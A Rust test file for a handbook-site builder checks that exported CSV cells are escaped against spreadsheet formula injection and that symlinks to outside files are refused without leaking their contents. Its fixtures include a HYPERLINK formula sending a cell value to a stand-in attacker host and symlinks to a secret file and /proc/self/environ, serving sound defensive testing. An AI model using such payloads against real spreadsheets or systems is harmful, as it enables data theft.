//! Nothing leaks and nothing runs: files outside the handbook are never
//! read into the site or printed, and text from the handbook cannot become
//! a formula in a spreadsheet.
#![allow(clippy::unwrap_used)] // Tests fail loudly by design.

mod common;

use std::path::Path;

use common::*;

fn write(root: &Path, rel: &str, text: &str) {
    let path = root.join(rel);
    std::fs::create_dir_all(path.parent().unwrap()).unwrap();
    std::fs::write(path, text).unwrap();
}

fn edit(root: &Path, rel: &str, f: impl FnOnce(String) -> String) {
    let path = root.join(rel);
    let text = std::fs::read_to_string(&path).unwrap();
    std::fs::write(&path, f(text)).unwrap();
}

#[test]
fn soa_csv_cells_cannot_run_as_formulas_and_the_file_starts_with_a_bom() {
    let book = fixture("minimal");
    let formula = r#"=HYPERLINK("http://evil.example/?"&A1,"x")"#;
    edit(book.path(), "content/controls/5.15.md", |t| {
        t.replace(
            "justification: \"Access to customer data must be controlled.\"",
            &format!("justification: '{formula}'"),
        )
    });
    edit(book.path(), "content/roles/ciso.md", |t| {
        t.replacen("title:", "title: \"@SUM(A1:A9)\"\n# was:", 1)
    });
    edit(book.path(), "content/policies/access-control.md", |t| {
        t.replacen("title:", "title: \"-2+3 Café\"\n# was:", 1)
    });
    let site = book.path().join("out");
    let run = build(book.path(), &site);
    assert_eq!(run.code, 0, "{}", run.stderr);

    let raw = std::fs::read(site.join("soa.csv")).unwrap();
    assert!(raw.starts_with(b"\xEF\xBB\xBFControl,"), "UTF-8 BOM first");
    let mut csv = csv::Reader::from_path(site.join("soa.csv")).unwrap();
    assert_eq!(&csv.headers().unwrap()[0], "Control");
    let row = csv
        .records()
        .map(|r| r.unwrap())
        .find(|r| &r[0] == "5.15")
        .unwrap();
    assert_eq!(&row[4], format!("'{formula}"));
    assert_eq!(&row[6], "'@SUM(A1:A9)");
    assert_eq!(&row[7], "'-2+3 Café");
}

#[cfg(unix)]
#[test]
fn check_never_prints_a_line_of_a_file_outside_the_content_folder() {
    let outside = tempfile::tempdir().unwrap();
    std::fs::write(outside.path().join("secret.env"), "API_KEY=hunter2\n").unwrap();
    let book = fixture("minimal");
    let content = book.path().join("content");
    std::os::unix::fs::symlink(outside.path().join("secret.env"), content.join("notes.md"))
        .unwrap();
    std::os::unix::fs::symlink(outside.path().join("secret.env"), content.join("key.txt")).unwrap();
    std::os::unix::fs::symlink("/proc/self/environ", content.join("environ.md")).unwrap();
    std::os::unix::fs::symlink(outside.path(), content.join("shared")).unwrap();

    let run: Run = ismsbook()
        .current_dir(book.path())
        .args(["check", ".", "--today", TODAY])
        .env("ISMSBOOK_TEST_SECRET", "s3cr3t-value")
        .output()
        .unwrap()
        .into();
    let built = build(book.path(), &book.path().join("out"));
    for (command, run) in [("check", &run), ("build", &built)] {
        let all = format!("{}{}", run.stdout, run.stderr);
        assert_eq!(run.code, 1, "{command}: {all}");
        for name in ["notes.md", "key.txt", "environ.md", "shared"] {
            assert!(
                all.contains(&format!("{name}:1:1: error[unreadable-file]")),
                "{command}: {name} not refused:\n{all}"
            );
        }
        assert!(
            !all.contains("hunter2"),
            "{command} printed the secret:\n{all}"
        );
        assert!(
            !all.contains("s3cr3t-value"),
            "{command} printed the environment:\n{all}"
        );
    }
}
